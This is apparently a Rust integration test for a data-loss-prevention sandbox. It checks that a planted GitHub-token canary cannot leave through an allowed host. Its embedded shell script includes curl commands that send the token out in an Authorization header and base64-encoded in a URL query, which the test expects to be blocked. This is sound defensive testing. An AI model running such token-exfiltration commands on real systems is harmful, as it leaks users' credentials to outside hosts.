//! `run --canary VAR=KIND` (docs/reference/dlp.md): CMD's `VAR` holds a fresh value of
//! the kind, and a request that carries it, as it is or base64-encoded, never reaches
//! the origin, while the same request without it does; the record names the canary
//! `run:VAR`, never its value.

use super::{require_jail, Jailed};
use crate::support::origin::Origin;

#[tokio::test]
async fn a_canary_planted_in_cmds_environment_never_leaves_through_an_allowed_door() {
    require_jail!();
    let origin = Origin::start().await;
    let port = origin.port();
    let script = format!(
        r#"printf 'shape:%s\n' "$(printf %s "$GITHUB_TOKEN" | grep -cE '^ghp_[A-Za-z0-9]{{36}}$')"
printf 'value:%s\n' "$GITHUB_TOKEN"
curl -s -o /dev/null -w 'clean:%{{http_code}}\n' http://allowed.test:{port}/clean
curl -s -o /dev/null -w 'header:%{{http_code}}\n' -H "Authorization: token $GITHUB_TOKEN" http://allowed.test:{port}/header
curl -s -o /dev/null -w 'base64:%{{http_code}}\n' "http://allowed.test:{port}/q?d=$(printf %s "$GITHUB_TOKEN" | base64 -w0 | tr -d =)"
"#
    );
    let jailed = Jailed::standard(port)
        .arg("--canary")
        .arg("GITHUB_TOKEN=github_token")
        .env("GITHUB_TOKEN", "inherited-value-is-replaced");
    let dir = jailed.dir.clone();
    let out = jailed
        .env("HOME_DIR", dir.to_str().unwrap())
        .sh(&script)
        .await;
    assert_eq!(out.code(), Some(0), "{out}");
    for line in ["shape:1", "clean:200", "header:403", "base64:403"] {
        assert!(out.stdout.contains(line), "{line}: {out}");
    }
    let paths: Vec<String> = origin.requests().into_iter().map(|r| r.target).collect();
    assert_eq!(
        paths,
        ["/clean"],
        "only the clean request reached the origin"
    );
    let refused: Vec<_> = out
        .audit
        .iter()
        .filter(|r| r["reason"] == "exfiltration_detected")
        .collect();
    assert_eq!(refused.len(), 2, "{out}");
    for r in &refused {
        assert_eq!(r["dlp"]["id"], "run:GITHUB_TOKEN", "{r}");
        assert_eq!(r["dlp"]["kind"], "github_token", "{r}");
    }
    let value = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("value:"))
        .unwrap()
        .to_string();
    assert!(value.starts_with("ghp_"), "{value}");
    let audit = serde_json::to_string(&out.audit).unwrap();
    assert!(
        !audit.contains(&value) && !out.stderr.contains(&value),
        "{out}"
    );
}
